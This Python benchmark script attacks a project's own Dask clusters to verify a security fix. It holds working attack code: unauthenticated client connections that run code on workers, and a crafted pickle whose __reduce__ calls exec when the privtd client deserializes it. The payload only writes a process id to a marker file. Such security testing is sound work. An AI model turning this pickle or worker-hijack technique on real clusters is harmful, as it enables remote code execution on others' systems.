"""An outsider who knows only a Dask cluster's address: does it run code there, and in privtd?

    python benchmarks/attacks/attack_dask_outsider.py                            # this tree
    PYTHONPATH=/work/main/src python benchmarks/attacks/attack_dask_outsider.py  # another

Three probes; one JSON line says what the outsider achieved in each:

- ``local_cluster``: privtd starts the cluster of ``privtd infer --engine dask`` (one worker);
  another process on the machine connects to its scheduler with no credentials and asks the
  worker for its process id (any code would do).
- ``privtd_client``: a scheduler and a worker run as separate processes, plain TCP as Dask
  starts them by default; the outsider connects and swaps privtd's shard reader on the
  worker for one that returns a crafted pickle; then privtd connects as a user would
  (``connect(scheduler=ADDRESS)``) and ingests a file. Unpickling the reader's result runs
  the outsider's code inside privtd's process (the requester's ``privtd infer``, or
  ``privtd serve``, which holds every campaign).
- ``tls_cluster``: the same scheduler and worker over TLS with the certificates of
  ``privtd cluster-certs``; the outsider connects with no certificate, then with one of its
  own making (only where privtd can make certificates).

On privtd before the fix the outsider ran code on the local cluster's worker and inside
privtd's process; after, the local cluster refuses it, privtd refuses the plain-TCP scheduler
unless told ``--allow-plain-tcp``, and the TLS cluster refuses it.
tests/test_distributed.py holds the same attacks as tests.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any


def _outsider_runs_code(address: str) -> str:
    import distributed

    try:
        with distributed.Client(address, timeout="5s", set_as_default=False) as stranger:
            pids = stranger.run(os.getpid)
        return f"ran code on {len(pids)} worker(s) (pids {sorted(pids.values())})"
    except Exception as exc:  # noqa: BLE001 - any refusal is what we hope for
        return f"refused ({type(exc).__name__})"


def probe_local() -> str:
    from privtd.inference.distributed import connect

    with connect(workers=1) as client:
        return _outsider_runs_code(client.scheduler.address)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _cluster(
    folder: Path, tls: tuple[list[str], list[str]] | None = None
) -> tuple[str, list[subprocess.Popen[bytes]]]:
    """A scheduler and a worker as processes; ``tls``: their [ca, cert, key] files, else
    plain TCP."""
    import privtd

    src = str(Path(privtd.__file__).resolve().parents[1])
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([src, os.environ.get("PYTHONPATH", "")])}
    port = _free_port()
    scheme = "tls" if tls else "tcp"

    def flags(i: int) -> list[str]:
        if tls is None:
            return []
        ca, cert, key = tls[i]
        return ["--tls-ca-file", ca, "--tls-cert", cert, "--tls-key", key]

    quiet: dict[str, Any] = {"env": env, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    address = f"{scheme}://127.0.0.1:{port}"
    procs = [
        subprocess.Popen(
            [sys.executable, "-m", "distributed.cli.dask_scheduler", "--host", "127.0.0.1"]
            + ["--port", str(port), "--no-dashboard", "--protocol", scheme, *flags(0)],
            **quiet,
        ),
        subprocess.Popen(
            [sys.executable, "-m", "distributed.cli.dask_worker", address, "--nworkers", "1"]
            + ["--nthreads", "1", "--host", "127.0.0.1", "--no-dashboard"]
            + ["--local-directory", str(folder), *flags(1)],
            **quiet,
        ),
    ]
    return address, procs


def _swap_reader(mark: str) -> None:
    """Run on the worker: privtd's shard reader now returns a pickle that, unpickled by the
    client, writes the client's process id to ``mark``."""
    from privtd.inference.distributed import _shard

    class Crafted:
        def __reduce__(self) -> tuple[Any, ...]:
            code = f"import os; open({mark!r}, 'w').write(str(os.getpid()))"
            return (exec, (code,))

    def summary_of(*_: Any, **__: Any) -> Any:
        return Crafted()

    _shard.summary_of = summary_of


def probe_privtd_client(folder: Path) -> str:
    import distributed
    import pandas as pd

    from privtd.inference.distributed import connect, ingest

    address, procs = _cluster(folder)
    mark = str(folder / "ran-in-privtd")
    data = folder / "answers.parquet"
    pd.DataFrame({"task": ["a", "b"], "worker": ["x", "y"], "answer": [0, 1]}).to_parquet(data)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with distributed.Client(address, timeout="3s", set_as_default=False) as outsider:
                    outsider.wait_for_workers(1, timeout=30)
                    outsider.run(_swap_reader, mark)
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.5)
        try:
            with connect(scheduler=address) as client:  # as `privtd infer --scheduler` does
                ingest(data, client)
        except Exception as exc:  # noqa: BLE001 - the crafted result is no valid summary
            outcome = f"{type(exc).__name__}: {str(exc).splitlines()[0][:100]}"
        else:
            outcome = "no error"
        if os.path.exists(mark):
            pid = Path(mark).read_text()
            who = "privtd's own process" if pid == str(os.getpid()) else f"process {pid}"
            return f"outsider's pickle ran code in {who} (then: {outcome})"
        return f"no outsider code ran in privtd ({outcome})"
    finally:
        for proc in procs:
            proc.kill()
            proc.wait(timeout=20)


def probe_tls_cluster(folder: Path) -> str:
    try:
        from privtd.inference.distributed import connect, tls_security
        from privtd.inference.distributed._certs import make_cluster_certs
    except ImportError:
        return "n/a: this privtd makes no cluster certificates"
    from distributed.security import Security

    made = make_cluster_certs(folder / "tls", workers=1)
    ca = made["ca"][0]
    address, procs = _cluster(folder, ([ca, *made["scheduler"]], [ca, *made["worker-1"]]))
    try:
        security = tls_security(ca, *made["client"])
        deadline = time.monotonic() + 60
        while True:
            try:
                with connect(scheduler=address, security=security, connect_timeout=5) as own:
                    own.wait_for_workers(1, timeout=30)
                    members = len(own.run(os.getpid))
                break
            except Exception:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.5)
        results = [f"privtd's client ran on {members} worker(s)"]
        results.append("no certificate: " + _outsider_runs_code(address))
        results.append("plain tcp: " + _outsider_runs_code(address.replace("tls://", "tcp://")))
        import distributed

        try:
            with distributed.Client(
                address, security=Security.temporary(), timeout="5s", set_as_default=False
            ) as stranger:
                stranger.run(os.getpid)
            results.append("own certificate: ran code")
        except Exception as exc:  # noqa: BLE001
            results.append(f"own certificate: refused ({type(exc).__name__})")
        return "; ".join(results)
    finally:
        for proc in procs:
            proc.kill()
            proc.wait(timeout=20)


def main() -> None:
    import privtd

    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        out = {
            "privtd": str(Path(privtd.__file__).resolve().parents[2]),
            "local_cluster": probe_local(),
            "privtd_client": probe_privtd_client(folder),
            "tls_cluster": probe_tls_cluster(folder),
        }
    print(json.dumps(out, indent=1))


if __name__ == "__main__":
    main()
